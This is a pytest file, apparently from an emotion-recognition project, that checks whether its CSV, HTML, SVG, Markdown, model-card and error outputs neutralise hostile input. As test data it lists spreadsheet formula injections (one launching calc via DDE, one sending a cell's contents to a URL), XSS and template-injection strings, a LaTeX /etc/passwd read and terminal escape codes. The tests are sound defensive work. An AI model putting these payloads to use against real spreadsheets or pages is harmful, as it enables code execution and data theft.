"""Names and texts of other people in what is written: tables, pages, pictures, Markdown, errors."""

import csv
import html.parser
import json
import random

import numpy as np
import pytest

from graph_er.conversations.conversation_input import read_turns
from graph_er.conversations.turns import Turn
from graph_er.display.page import render_page
from graph_er.display.picture import write_picture
from graph_er.display.shown_turns import ShownDialogue, ShownTurn
from graph_er.errors import InputError
from graph_er.inference.predictions import prediction_rows, write_prediction_rows
from graph_er.packing.model_card import Part, model_card
from graph_er.report.canvas import to_svg
from graph_er.report.example import Example
from graph_er.report.example import Turn as ExampleTurn
from graph_er.report.tables import Row, Table
from graph_er.report.timeline import dialogue_figure
from graph_er.running import cli
from graph_er.running.csv_cells import guarded, unguarded
from graph_er.scoring.evaluation import EvaluatedUtterances, write_predictions
from graph_er.scoring.prediction_table import read_predictions
from graph_er.web.drawings import timeline_html

KIND = "Hostile texts in outputs"
FORMULAS = [
    *("=1+1", "=cmd|'/c calc'!A0", '=HYPERLINK("http://example.org?"&A1,"x")', "+1+1", "-1+1"),
    *("@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1+1", "＠SUM(1)", "-", "-- 응"),
    *("'=1+1", "''=1+1", "'-5", "+82-10-1234-5678", '=1+1,"\'"', '"=1+1"', "-5x", "=" * 100),
]
PLAIN = ["-5", "+5", "-0.5", "1e-5", "그래", "'그래'", "", "a=b", "a-b", "'", "''", "5", " =1"]
TEXTS = [
    *("<script>alert(1)</script>", "</title><script>alert(1)</script>", '"><img src=x onerror=a>'),
    *("'><svg onload=alert(1)>", "</style><script>a</script>", "<!--", "-->", "]]>", "{{7*7}}"),
    *("{% for %}", "javascript:alert(1)", "[a](javascript:alert(1))", "a|b", "`a`", "# a", "$x^{"),
    *("$\\frac{1}$", "\\input{/etc/passwd}", "%s%n", "\x1b[2J", "\u202egnp.exe", "a" * 300, "&lt;"),
    *("\u0645" * 50, "👩‍👩‍👧", "\\N{BULLET}", "__proto__", "</script><script>a()</script>"),
]
EMOTIONS = ("neutral", "happy")


def talk_of(text, count=3):
    return [
        ShownDialogue(
            text,
            tuple(
                ShownTurn(
                    n + 1,
                    text,
                    text,
                    n,
                    n + 1,
                    "happy",
                    0.9,
                    dict.fromkeys(EMOTIONS, 0.5),
                    "",
                    "at",
                )
                for n in range(count)
            ),
            True,
        )
    ]


LINKS = ("href", "xlink:href", "src", "action", "formaction")
# Of these some stop a picture: formulas, signs that no font has, great lengths.
DRAWN = [text for text in TEXTS if set(text) & set("$\\\x1b\u202e") or len(text) > 40]


class Tags(html.parser.HTMLParser):
    """Collects what a browser would make of a page."""

    def __init__(self, page):
        super().__init__()
        self.scripts, self.handlers, self.texts = 0, [], []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.scripts += tag == "script"
        self.handlers += [
            n for n, v in attrs if n.startswith("on") or (n in LINKS and "script:" in v)
        ]
        self.handlers += [tag] * (tag in ("img", "iframe", "object", "embed", "base", "form"))

    def handle_data(self, data):
        self.texts.append(data)


@pytest.mark.parametrize("text", [*FORMULAS, *PLAIN])
def test_cells_are_kept_from_being_run_and_come_back(text, records):
    cell = guarded(text)
    assert unguarded(cell) == text
    assert (cell != text) == (text in FORMULAS and text != '"=1+1"')
    if cell and cell[0] in "=+-@\t\r\n＝＋－＠":
        float(cell)
    records.add(KIND, tried=1, survived=1)


def test_any_cell_comes_back():
    chance = random.Random(0)
    for _ in range(5_000):
        text = "".join(chance.choice("'=+-@\t5.e가 ") for _ in range(chance.randrange(6)))
        assert unguarded(guarded(text)) == text
    assert [guarded(value) for value in (None, 5, -0.5, True)] == [None, 5, -0.5, True]


@pytest.mark.parametrize("text", FORMULAS)
def test_predictions_are_joined_by_ids_that_look_like_formulas(tmp_path, text, records):
    text = text.strip()
    utterances = EvaluatedUtterances([text], [f"{text}1"], [text], np.array([1]), ("=a", "@b"))
    path = tmp_path / "predictions.csv"
    write_predictions(path, utterances, np.array([[0.25, 0.75]]))
    with path.open(newline="", encoding="utf-8") as file:
        _, row = csv.reader(file)
    assert all(cell[0] not in "=+-@\t\r" or float(cell) for cell in row)
    found = read_predictions(path)
    assert (found.dialogues, found.utterances, found.gold) == ((text,), (f"{text}1",), ("@b",))
    records.add(KIND, tried=1, survived=1)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_users_rows_come_back_from_what_was_predicted(tmp_path, text, records):
    text = text.strip()
    row = {"dialogue": text, "utterance": "u", "speaker": text, "text": text, "=note": text}
    turn = Turn("u", text, text, None, 0.0, text, 0.0, 1.0, row=row)
    rows = prediction_rows([turn], np.array([[0.25, 0.75]]), EMOTIONS, "t", frozenset())
    write_prediction_rows(tmp_path / "p.csv", rows)
    write_prediction_rows(tmp_path / "p.jsonl", rows)
    with (tmp_path / "p.csv").open(newline="", encoding="utf-8") as file:
        cells = [cell for line in csv.reader(file) for cell in line]
    assert not any(cell[:1] and cell[0] in "=+-@" for cell in cells)
    told = json.loads((tmp_path / "p.jsonl").read_text(encoding="utf-8"))
    assert {name: told[name] for name in row} == row
    (again,) = read_turns(tmp_path / "p.csv")
    assert {name: again.row[name] for name in row} == row
    assert (again.dialogue, again.speaker, again.text) == (text, text, text)
    records.add(KIND, tried=1, survived=1)


@pytest.mark.parametrize("text", TEXTS)
def test_pages_show_texts_and_run_nothing(text, records):
    shown = talk_of(text)
    for page, scripts in (
        (render_page(shown, EMOTIONS, text, "at"), 1),  # its own
        (timeline_html(shown, EMOTIONS, "en"), 0),
        (render_page(talk_of("a"), (text, "happy"), "a", "at"), 1),
    ):
        tags = Tags(page)
        assert (tags.scripts, tags.handlers) == (scripts, [])
        assert text.strip()[:13] in "".join(tags.texts)
    records.add(KIND, tried=1, survived=1)


@pytest.mark.parametrize("text", DRAWN)
def test_pictures_are_drawn_of_any_text(tmp_path, text, records):
    shown = talk_of(text, 2)
    assert write_picture(tmp_path / "a.png", shown, EMOTIONS) == 1
    turns = tuple(ExampleTurn("u", text, text, text, "happy", 0.5) for _ in range(2))
    figure = dialogue_figure(Example(text, "graph", "at", 1, turns), (text, "happy"))
    drawn = to_svg(figure)
    assert "<script" not in drawn
    assert "onload" not in drawn.split("<!--")[0]
    records.add(KIND, tried=1, survived=1)


@pytest.mark.parametrize("text", TEXTS)
def test_markdown_holds_no_html_and_keeps_its_tables(text, records):
    table = Table(("a", text), (Row((text, f"{text}\n\n{text}")),)).markdown()
    assert len(table.splitlines()) == 3
    assert "<" not in table
    assert all(line.replace("\\|", "").count("|") == 3 for line in table.splitlines())
    config = {"corpus": text, "fusion": text, "text_encoder": text, "audio_encoder": text}
    data = {"name": text, "sha256": "0" * 64}
    parts = {
        "extractor": Part({"config": config, "metrics": {}}, "at"),
        "graph": Part({"data": data, "metrics": {}}, "at", None, (1,), 3, ("train",), 1.0),
    }
    card = model_card(text, parts, [text, "happy"])
    assert "<" not in card.replace("&lt;", "")
    assert card.startswith("---\nlicense: other\n")
    records.add(KIND, tried=1, survived=1)


@pytest.mark.parametrize("text", TEXTS)
def test_errors_tell_a_terminal_nothing_to_do(capsys, text, records):
    def main(argv):
        raise InputError(f"{text}: is wrong\nand more")

    assert cli.run_command(main) == 2
    said = capsys.readouterr().err
    assert said.endswith("and more\n")
    assert not any(sign in said for sign in "\x1b\u202e\x07\r")
    records.add(KIND, tried=1, survived=1)


def test_a_crowd_shares_a_lane(tmp_path):
    turns = tuple(
        ShownTurn(
            n + 1, f"s{n}", "a", n, n + 1, "happy", 0.9, dict.fromkeys(EMOTIONS, 0.5), "", "at"
        )
        for n in range(500)
    )
    crowd = ShownDialogue("d", turns, True)
    assert (len(crowd.lane_names), max(crowd.lanes.values())) == (60, 59)
    assert len(render_page([crowd], EMOTIONS, "a", "at")) < 1_000_000
    pair = ShownDialogue("d", turns[:2], True)
    assert (pair.lane_names, pair.lanes) == (["s0", "s1"], {"s0": 0, "s1": 1})


@pytest.mark.parametrize(
    "content",
    [
        *(b"", b"\xff\xfe", b"dialogue,utterance\n", b'dialogue,utterance,gold,pred,prob_a\n"'),
        *(b"dialogue,utterance,gold,pred,prob_a\nd,u,a\n", b"\0" * 100),
        b"dialogue,utterance,gold,pred,prob_a\nd,u,a,a,nan\n",
        b"dialogue,utterance,gold,pred,prob_a\nd,u," + b"a" * 200_000 + b",a,1\n",
    ],
)
def test_predictions_that_are_damaged_are_refused(tmp_path, content, records):
    path = tmp_path / "predictions.csv"
    path.write_bytes(content)
    with pytest.raises(InputError, match=r"predictions\.csv"):
        read_predictions(path)
    records.add(KIND, tried=1, survived=1)
